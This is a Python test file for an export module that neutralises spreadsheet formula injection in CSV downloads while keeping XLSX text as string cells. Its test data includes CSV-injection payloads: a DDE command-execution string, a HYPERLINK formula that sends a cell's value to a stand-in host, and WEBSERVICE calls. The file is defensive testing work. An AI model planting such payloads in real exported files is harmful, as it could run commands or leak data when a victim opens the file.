"""Formula neutralisation: CSV downloads neutralise only formula-like cells (OWASP's list, with
``@mention words`` and plain numbers left alone); XLSX keeps the exact text as string cells."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

from core import neutralise_formulas, to_csv_bytes, to_xlsx_bytes
from core.export import is_formula_like, neutralise_csv_file

FAULT_FILE = "/work/shared/data/faults/r13_formula_cells.csv"

# Each of these would be evaluated by a spreadsheet opening the CSV.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "@SUM(A1)",
    "@SUM(A1:A2)",
    "+1+1",
    "-2+3",
    "-2+3 for two",
    "+SUM(1,2)",
    "- great flight",  # "=-great flight": #NAME? in a spreadsheet, the text lost
    "\tTAB",
    "\t=1+1",
    "\rCR",
    "=cmd|' /C calc'!A0",
    "@cmd",
    "@united",  # a lone name is read as a named range
    '@united =HYPERLINK("http://x")',  # a mention does not excuse a function call
    "@united see WEBSERVICE(\"http://x\")",
    "@a cmd|' /C calc'!A0",
    " =1+1 leading space",
    " \t=1+1",
]
# Each of these is text (or a number) to a spreadsheet, and must reach it unchanged.
PLAIN = [
    "@united thanks for the help",
    "@VirginAmerica why are your first fares in May over three times more than other carriers?",
    "@united thanks (really) for the help!",
    "@JetBlue\tthanks",
    "-3.5",
    "+44",
    "-12.5",
    "1e-3",
    "+.5",
    "normal text, nothing odd",
    "thanks @united = great",  # "=" and "@" later in the text do nothing
    "",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_cells_are_recognised(text):
    assert is_formula_like(text)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_numbers_are_not_formulas(text):
    assert not is_formula_like(text)


def test_non_text_values_are_never_formulas():
    assert not any(is_formula_like(v) for v in (-3.5, 0, None, float("nan"), pd.NA))


def test_csv_bytes_neutralise_exactly_the_formula_cells():
    df = pd.DataFrame({"text": FORMULAS + PLAIN, "p": [-0.5] * (len(FORMULAS) + len(PLAIN))})
    raw = to_csv_bytes(df)
    assert raw.startswith(b"\xef\xbb\xbf")
    with io.StringIO(raw.decode("utf-8-sig"), newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["text", "p"]
    texts = [r[0] for r in rows[1:]]
    assert texts == ["'" + t for t in FORMULAS] + PLAIN
    assert {r[1] for r in rows[1:]} == {"-0.5"}  # a negative number column stays a number


def test_neutralise_formulas_leaves_numeric_columns_and_their_dtype():
    safe = neutralise_formulas(pd.DataFrame({"text": ["=1", "@united hi"], "p": [-1.5, 2.0]}))
    assert safe["text"].tolist() == ["'=1", "@united hi"]
    assert safe["p"].dtype == float and safe["p"].tolist() == [-1.5, 2.0]


def test_header_cells_are_neutralised_in_csv():
    assert list(neutralise_formulas(pd.DataFrame({"=cmd": [1], "@united hi": [2]})).columns) == ["'=cmd", "@united hi"]


def test_fault_file_csv_and_xlsx_both_sides():
    df = pd.read_csv(FAULT_FILE, dtype=str, keep_default_na=False)
    expected_formula = [True, True, True, True, True, True, False, True, False, True]
    assert [is_formula_like(t) for t in df["text"]] == expected_formula

    back = pd.read_csv(io.BytesIO(to_csv_bytes(df)), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert len(back) == len(df)
    for original, written, formula in zip(df["text"], back["text"], expected_formula, strict=True):
        assert written == ("'" + original if formula else original)
    assert back["customer"][0] == "'=1+1" and back["customer"][1] == "cust1"

    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(df))).active
    cells = list(sheet.iter_rows(min_row=2))
    assert [c[0].value for c in cells] == df["text"].tolist()  # exactly the raw text, CR included
    assert [c[1].value for c in cells] == df["customer"].tolist()
    assert all(c.data_type == "s" for row in cells for c in row)


def test_xlsx_keeps_raw_text_as_string_cells_and_numbers_as_numbers():
    df = pd.DataFrame({"=cmd": ["=1+1", "@united thanks", "@SUM(A1)", "a\rb"], "confidence": [0.25, 0.75, -3.5, 1.0]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(df))).active
    assert sheet["A1"].value == "=cmd" and sheet["A1"].data_type == "s"
    assert [sheet.cell(row=r, column=1).value for r in range(2, 6)] == df["=cmd"].tolist()
    assert all(sheet.cell(row=r, column=1).data_type == "s" for r in range(2, 6))
    assert sheet["B2"].value == 0.25 and sheet["B2"].data_type == "n"
    assert sheet["B4"].value == -3.5 and sheet["B4"].data_type == "n"


def test_csv_bytes_keep_a_carriage_return_inside_a_cell():
    df = pd.DataFrame({"text": ["great\rphone", "ok"], "n": [1, 2]})
    back = pd.read_csv(io.BytesIO(to_csv_bytes(df)), encoding="utf-8-sig")
    assert len(back) == 2 and back["n"].tolist() == [1, 2]


def test_neutralise_csv_file_matches_the_rule_cell_by_cell_and_keeps_numbers_as_written(tmp_path):
    source = tmp_path / "pred.csv"
    frame = pd.DataFrame({
        "text": FORMULAS + PLAIN,
        "confidence": ["0.931", "-3.5", "1e-3"] + [""] * (len(FORMULAS) + len(PLAIN) - 3),
    })
    frame.to_csv(source, index=False, lineterminator="\r\n")
    raw = neutralise_csv_file(source)
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"text,confidence") == 1
    with io.StringIO(raw.decode("utf-8-sig"), newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert [r[0] for r in rows] == ["'" + t for t in FORMULAS] + PLAIN
    assert [r[1] for r in rows[:3]] == ["0.931", "-3.5", "1e-3"] and rows[3][1] == ""


def test_neutralise_csv_file_of_a_header_only_file(tmp_path):
    (tmp_path / "h.csv").write_text("=a,b\n")
    assert neutralise_csv_file(tmp_path / "h.csv") == b"\xef\xbb\xbf'=a,b\r\n"
